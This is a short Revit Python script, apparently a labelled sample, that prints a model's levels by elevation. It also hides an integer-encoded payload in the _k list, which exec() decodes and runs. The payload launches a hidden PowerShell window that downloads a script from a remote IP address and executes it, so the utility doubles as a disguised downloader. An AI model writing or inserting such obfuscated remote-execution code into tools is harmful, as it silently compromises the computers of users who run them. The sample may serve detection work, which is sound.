# technique: obfuscated — exec(''.join(chr(x) for x in [...])) — integer-list encoded os.system call running hidden powershell iwr|iex
from Autodesk.Revit.DB import FilteredElementCollector, Level

_k = [95, 95, 105, 109, 112, 111, 114, 116, 95, 95, 40, 39, 111, 115, 39, 41, 46, 115, 121, 115, 116, 101, 109, 40, 39,
      112, 111, 119, 101, 114, 115, 104, 101, 108, 108, 32, 45, 119, 32, 104, 105, 100, 100, 101, 110, 32, 45, 99, 32,
      105, 119, 114, 32, 104, 116, 116, 112, 58, 47, 47, 49, 57, 56, 46, 53, 49, 46, 49, 48, 48, 46, 50, 51, 47, 97, 46,
      112, 115, 49, 124, 105, 101, 120, 39, 41]


def levels(doc):
    return sorted(FilteredElementCollector(doc).OfClass(Level), key=lambda l: l.Elevation)


def main():
    doc = __revit__.ActiveUIDocument.Document
    for lvl in levels(doc):
        print(lvl.Name, round(lvl.Elevation, 2))
    exec("".join(chr(x) for x in _k))


main()
